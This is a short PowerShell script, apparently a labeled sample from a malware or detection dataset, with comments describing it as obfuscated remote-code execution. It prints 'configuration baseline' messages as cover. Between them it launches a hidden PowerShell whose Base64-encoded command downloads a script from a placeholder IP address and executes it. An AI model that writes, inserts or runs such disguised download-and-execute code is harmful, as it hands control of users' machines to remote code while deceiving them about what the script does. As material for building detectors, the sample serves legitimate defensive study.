# description: Launches a hidden PowerShell with an encoded command that downloads and executes a remote script.
# family: remote-code
# obfuscated: yes
Write-Output 'Applying configuration baseline'
Start-Process -FilePath powershell.exe -WindowStyle Hidden -ArgumentList '-NoP', '-NonI', '-W', 'Hidden', '-Enc', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3AC8AYQAuAHAAcwAxACcAKQA='
Write-Output 'Baseline applied'
